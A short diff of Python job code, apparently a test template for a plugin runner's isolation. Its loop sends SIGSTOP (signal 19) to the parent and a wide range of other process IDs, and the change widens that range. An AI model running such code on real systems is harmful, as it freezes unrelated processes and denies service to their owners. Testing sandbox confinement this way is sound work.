@@ -5,7 +5,7 @@
 def job(plugin):
   @LIBC@
   sent = 0
-  for pid in [os.getppid()] + list(range(2, os.getpid() + 60)):
+  for pid in [os.getppid()] + list(range(2, max(os.getpid(), 500) + 60)):
     if pid != os.getpid():
       try:
         os.kill(pid, 19)
